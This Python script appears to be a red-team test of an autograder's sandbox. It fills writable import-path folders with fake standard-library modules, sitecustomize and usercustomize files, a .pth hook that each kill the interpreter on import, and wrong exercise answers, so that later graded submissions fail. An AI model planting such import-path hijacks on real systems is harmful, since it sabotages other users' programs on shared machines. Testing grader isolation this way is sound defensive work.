"""Write onto Python's import path so later grades import my module: plant a module for every
standard-library name not yet imported (each does os._exit(7) when imported, spoiling the
grade of whoever imports it), plus ex01_forward.py / ex02_cost.py (wrong answers),
sitecustomize.py, usercustomize.py, a .pth file and __pycache__ entries, in every sys.path
folder, beside my own file, in my working folder and its parent, and $HOME; and a harmless
lbatk_planted.py in the same places and in /tmp and /dev/shm. My ex02 (the WITNESS) passes
only if it can import lbatk_planted.

Out of care for the shared machine, when running as root (isolation none) stdlib-named modules
are only written into the grader's own folders (under /tmp/learn-*, /out, /job, /sandbox), never
into the real standard library or /tmp itself.

The defence held if: my ex01 and ex02 fail, every honest learner graded after me passes, and
no planted file survives the regrade."""
import os
import sys

DOES_THE_WORK = False

EVIL = "import os as _o\n_o._exit(7)\n"
WRONG01 = "def forward(w, x):\n    return w + x\n"
WRONG02 = "def cost(a, y):\n    return a - y\n"
MARK = "LBATK_PLANTED = True\n"


def grader_owned(d):
    d = os.path.abspath(d)
    return d.startswith(("/tmp/learn-", "/out", "/job", "/sandbox"))


targets = set()
for d in list(sys.path) + [os.path.dirname(os.path.abspath(__file__)), os.getcwd(),
                           os.path.dirname(os.getcwd()), os.environ.get("HOME", "")]:
    if d and os.path.isdir(d):
        targets.add(d)
names = [n for n in getattr(sys, "stdlib_module_names", ()) if n not in sys.modules and not n.startswith("_")]


def put(path, text):
    try:
        with open(path, "w") as fh:
            fh.write(text)
    except OSError:
        pass


for d in sorted(targets):
    if not os.access(d, os.W_OK):
        continue
    put(os.path.join(d, "lbatk_planted.py"), MARK)
    if os.getuid() == 0 and not grader_owned(d):
        continue
    for n in names:
        put(os.path.join(d, n + ".py"), EVIL)
    put(os.path.join(d, "ex01_forward.py"), WRONG01)
    put(os.path.join(d, "ex02_cost.py"), WRONG02)
    put(os.path.join(d, "sitecustomize.py"), EVIL)
    put(os.path.join(d, "usercustomize.py"), EVIL)
    put(os.path.join(d, "lbatk.pth"), "import os; os._exit(7)\n")
    try:
        os.makedirs(os.path.join(d, "__pycache__"), exist_ok=True)
        for n in names[:50]:
            put(os.path.join(d, "__pycache__", f"{n}.cpython-{sys.version_info[0]}{sys.version_info[1]}.pyc"), "junk")
    except OSError:
        pass
for d in ("/tmp", "/dev/shm", "/var/tmp"):
    put(os.path.join(d, "lbatk_planted.py"), MARK)


def forward(w, x):
    return w + x


WITNESS = '''
import sys, os
for d in ("/tmp", "/dev/shm", "/var/tmp", os.getcwd(), os.path.dirname(os.getcwd())):
    if d not in sys.path:
        sys.path.append(d)
try:
    import lbatk_planted
    FOUND = True
except Exception:
    FOUND = False
def cost(a, y):
    return (a - y) ** 2 if FOUND else 0.0 * a
'''
